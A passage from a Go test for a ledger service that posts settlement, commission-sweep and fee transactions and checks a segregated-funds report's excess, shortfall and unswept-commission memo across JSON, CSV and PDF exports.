		return domain.RawPosting{Account: acc, Direction: dir, Amount: amt, Currency: "CNY"}
	}
	post := func(kind, key string, ps ...domain.RawPosting) {
		t.Helper()
		in := app.CreateTransactionInput{IdempotencyKey: key, Postings: ps}
		if kind != "" { // settlement's own movements, as the service posts them
			in.Metadata, in.Internal = map[string]string{"kind": kind, "cycle_id": "cyc-20261112", "provider_id": "p-1"}, true
		}
		if _, err := f.app.CreateTransaction(f.ctx, in); err != nil {
			t.Fatal(err)
		}
		clk.Advance(time.Second)
	}
	const pending1, pending2 = "provider:p-1:pending:cyc-20261112", "provider:p-2:pending:cyc-20261112"
	f.deposit(t, "r-1", "300.00", "CNY", "d1")
	post("", "c1", p("renter:r-1:wallet", "debit", "80.00"), p(pending1, "credit", "80.00"))
	post("", "c2", p("renter:r-2:wallet", "debit", "20.00"), p(pending1, "credit", "20.00")) // r-2 in debit: -20.00
	post("", "c3", p("renter:r-1:wallet", "debit", "40.00"), p(pending2, "credit", "40.00"))
	// p-2 settles with its sweep (one transaction): nothing left unswept.
	post("settlement", "settle-2", p(pending2, "debit", "40.00"), p(domain.PlatformCommission, "credit", "10.00"),
		p("tax:withheld:CN", "credit", "6.00"), p("provider:p-2:available", "credit", "24.00"),
		p(domain.BankOperating, "debit", "10.00"), p(domain.BankClient, "credit", "10.00"))
	// p-1 settles alone: its sweep of 25.00 is deferred.
	post("settlement", "settle-1", p(pending1, "debit", "100.00"), p(domain.PlatformCommission, "credit", "25.00"),
		p("tax:withheld:CN", "credit", "15.00"), p("provider:p-1:available", "credit", "60.00"))
	post("", "fee", p("renter:r-1:wallet", "debit", "1.00"), p(domain.PlatformCommission, "credit", "1.00")) // a breach
	deferredAt := clk.Now()
	clk.Advance(time.Second) // the sweep after the instant
	post("commission_sweep", "settle-1:sweep", p(domain.BankOperating, "debit", "25.00"), p(domain.BankClient, "credit", "25.00"))

	const (
		memoAccount = "commission earned - swept"
		memoText    = "settlement commission not yet swept to bank:operating"
		memo        = "memo " + memoAccount
	)
	lines := func(rep *app.SegregatedFundsReport) map[string]decimal.Decimal {
		out := map[string]decimal.Decimal{}
		for _, l := range rep.Lines {
			out[l.Section+" "+l.Account] = l.Amount
		}
		return out
	}
	// Computed from the postings above: bank:client 300 - 10 (p-2's sweep)
	// = 290; owed r-1 300-80-40-1 = 179, available 60+24, tax 15+6: 284.
	// Excess 6.00 = p-1's unswept 25.00 + r-2's debt -20.00 + the fee 1.00.
	deferred, err := f.svc.Reports().SegregatedFunds(f.ctx, &deferredAt, "CNY")
	if err != nil {
		t.Fatal(err)
	}
	got := lines(deferred)
	if deferred.Verdict != app.VerdictExcess || !deferred.Difference.Equal(dec("6")) {
		t.Fatalf("deferred: verdict %s, difference %s; want excess 6.00 (lines %v)", deferred.Verdict, deferred.Difference, got)
	}
	if !got[memo].Equal(dec("25")) {
		t.Fatalf("deferred sweep: no memo line %q of 25.00 (the commission earned, not yet swept); lines %v", memo, got)
	}
	if explained := got[memo].Add(got["memo renter:*:wallet"]).Add(dec("1.00")); !explained.Equal(deferred.LedgerDifference) {
		t.Fatalf("memos and the breach explain %s of the ledger difference %s (lines %v)", explained, deferred.LedgerDifference, got)
	}
	// Swept: bank:client 265 against 284, shortfall -19.00, and no memo.
	swept, err := f.svc.Reports().SegregatedFunds(f.ctx, nil, "CNY")
	if err != nil {
		t.Fatal(err)
	}
	if got := lines(swept); !swept.Difference.Equal(dec("-19")) || !got[memo].IsZero() {
		t.Fatalf("swept: difference %s (want -19.00), memo %s (want none); lines %v", swept.Difference, got[memo], got)
	}
	// Every form of the report carries the memo.
	export := func(format string) string {
		t.Helper()
		b, err := ledger.ExportSegregatedFunds(f.ctx, f.pool, &deferredAt, "CNY", format, nil)
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	wantJSON := `{"section":"memo","account":"` + memoAccount + `","description":"` + memoText + `","amount":"25.00"}`
	if js := export("json"); !strings.Contains(js, wantJSON) {
		t.Fatalf("JSON has no unswept commission memo %s:\n%s", wantJSON, js)
	}
	if c := export("csv"); !strings.Contains(c, "\ntotal:memo,"+memoAccount+",,,,,25.00,CNY,") {
		t.Fatalf("CSV has no unswept commission memo row:\n%s", c)
	}
	path := t.TempDir() + "/report.pdf"
	if err := os.WriteFile(path, []byte(export("pdf")), 0o600); err != nil {
		t.Fatal(err)
	}
	out, err := exec.CommandContext(f.ctx, "pdftotext", "-layout", path, "-").Output()
	if p := squash(string(out)); err != nil || !strings.Contains(p, "memo "+memoAccount+" "+memoText+" 25.00") {
		t.Fatalf("PDF (%v) has no unswept commission memo:\n%s", err, out)
	}
}
